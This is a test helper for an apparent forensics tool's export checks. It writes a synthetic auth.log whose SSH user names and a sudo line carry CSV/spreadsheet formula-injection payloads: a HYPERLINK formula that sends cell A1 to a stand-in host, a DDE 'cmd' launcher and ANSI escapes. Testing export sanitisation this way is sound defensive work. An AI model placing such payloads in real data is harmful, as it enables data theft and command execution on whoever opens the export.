/**
 * Shared set-up of the export tests: the format definitions in ../shared/specs (skipped, saying
 * so, when absent — like the corpus), and a case with findings built the way a user builds one.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect } from 'vitest';
import { dwell, ROOT } from '../helpers/cli.js';

export const SPECS = resolve(ROOT, '..', 'shared', 'specs');

export function specsDir(kind: string): string | null {
  const dir = join(SPECS, kind);
  if (!existsSync(dir)) {
    console.warn(`export tests: ${dir} is absent; the ${kind} format checks are skipped`);
    return null;
  }
  return dir;
}

/** The demo evidence (fixtures/auth) ingested and correlated from the seed the README uses. */
export async function caseWithFindings(dir: string): Promise<string> {
  const casePath = join(dir, 'case.duckdb');
  const ing = await dwell(['ingest', '--year', '2026', '--case', casePath, '-q', 'fixtures/auth']);
  expect(ing.code, ing.stderr).toBe(0);
  const cor = await dwell(['correlate', '--case', casePath, '--seed', 'ip:203.0.113.77', '--detected-at', '2026-01-02T09:15:00Z', '--contained-at', '2026-01-02T14:00:00Z']);
  expect(cor.code, cor.stderr).toBe(0);
  return casePath;
}

/**
 * Evidence whose content is hostile to exports: formula-looking user names, quotes, commas,
 * control characters and a multi-line sudo command.
 */
export function hostileEvidence(dir: string): string {
  const ev = join(dir, 'evidence', 'evil-01');
  mkdirSync(ev, { recursive: true });
  const lines = [
    'Jan  3 10:00:01 evil-01 sshd[100]: Invalid user =HYPERLINK("http://x.example/?"&A1,"click") from 198.51.100.66 port 40000',
    'Jan  3 10:00:02 evil-01 sshd[100]: Failed password for invalid user +cmd|\' /C calc\'!A0 from 198.51.100.66 port 40000 ssh2',
    'Jan  3 10:00:03 evil-01 sshd[101]: Invalid user @SUM(1,2) from 198.51.100.66 port 40001',
    'Jan  3 10:00:04 evil-01 sshd[102]: Invalid user -2+3 from 198.51.100.66 port 40002',
    'Jan  3 10:00:05 evil-01 sshd[103]: Invalid user a"b,c\x1b[31mred from 198.51.100.66 port 40003',
    'Jan  3 10:00:06 evil-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/sh -c echo a#012=cmd|calc',
  ];
  writeFileSync(join(ev, 'auth.log'), lines.join('\n') + '\n');
  return join(dir, 'evidence');
}

export { ROOT };
